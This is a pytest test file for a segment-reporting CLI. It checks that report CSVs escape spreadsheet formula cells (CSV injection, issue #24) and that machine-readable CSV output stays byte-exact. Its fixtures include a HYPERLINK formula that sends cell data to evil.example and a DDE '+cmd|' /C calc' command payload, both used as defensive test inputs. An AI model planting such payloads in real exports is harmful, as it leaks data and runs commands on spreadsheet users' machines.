"""The report's CSV files are opened in spreadsheets: no cell runs as a formula (issue #24).

OWASP (CSV Injection): a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is run as a formula by Excel, LibreOffice and Google Sheets, so
such text cells of ``accounts.csv`` and ``alerts.csv`` start with a single quote.
The ``--format csv`` outputs of commands are data for programs: their bytes are
the contract (docs/semantics.md §4) and are not touched. A report's ``accounts.csv``
read back as ``--previous`` gives the account ids as they are.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from pendo_segments.cli import main
from pendo_segments.data import bundled_sample_path
from pendo_segments.shipped import shipped_path

DEFS = shipped_path("segment_defs")
LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
RENAMED = {"acc-00001": LINK, "acc-00003": "@SUM(1+1)", "acc-00004": "+cmd|' /C calc'!A0"}
NEW_ID = "-2+3"  # acc-00002 (raised alerts on the sample) under a formula-like id


def _run(*args: object) -> str:
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exit_code == 0, result.output
    return result.stdout


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("csv") / "data"
    shutil.copytree(bundled_sample_path(), folder)
    for path in folder.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        header = rows[0]
        for row in rows[1:]:
            for i, cell in enumerate(row):
                if header[i] == "account_id" and cell == "acc-00002":
                    row[i] = NEW_ID
            if path.name == "accounts.csv" and row[0] in RENAMED:
                row[header.index("name")] = RENAMED[row[0]]
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        path.write_text(out.getvalue(), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def report(data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("csv") / "report"
    _run("report", DEFS, "--data", data, "--out", out)
    return out


def test_accounts_csv_quotes_formula_cells(report: Path) -> None:
    rows = {r["account_id"]: r for r in _rows((report / "accounts.csv").read_text("utf-8"))}
    assert rows["acc-00001"]["name"] == "'" + LINK
    assert rows["acc-00003"]["name"] == "'@SUM(1+1)"
    assert rows["acc-00004"]["name"] == "'+cmd|' /C calc'!A0"
    assert "'" + NEW_ID in rows and NEW_ID not in rows
    assert rows["acc-00005"]["name"] == "Ironwood Learning Corp"  # plain text as it is
    score = rows["'" + NEW_ID]["health_score"]
    assert score == "" or float(score) >= 0  # numbers are not quoted
    for row in rows.values():  # no cell of any row starts like a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_alerts_csv_quotes_formula_cells(report: Path) -> None:
    rows = _rows((report / "alerts.csv").read_text("utf-8"))
    ids = {r["account_id"] for r in rows}
    assert "'" + NEW_ID in ids and NEW_ID not in ids
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_machine_csv_outputs_keep_their_bytes(data: Path) -> None:
    """``--format csv`` is read by programs: an id is the id (docs/semantics.md §4)."""
    health = _rows(
        _run("health", "--config", DEFS / "health.yaml", "--data", data, "--format", "csv")
    )
    assert NEW_ID in {r["account_id"] for r in health}
    members = _rows(_run("evaluate", DEFS, "--data", data, "--format", "csv", "-s", "enterprise"))
    assert all(not r["subject_id"].startswith("'") for r in members)


def test_the_report_read_back_as_previous_has_the_ids_as_they_are(
    report: Path, data: Path, tmp_path: Path
) -> None:
    from pendo_segments.report.movers import read_previous

    previous = read_previous(report / "accounts.csv")
    assert NEW_ID in set(previous["account_id"])
    assert LINK in set(previous["name"])
    out = tmp_path / "again"
    _run("report", DEFS, "--data", data, "--out", out, "--previous", report / "accounts.csv")
    index = (out / "index.html").read_text("utf-8")
    assert "'" + NEW_ID not in index and "&#39;" + NEW_ID not in index
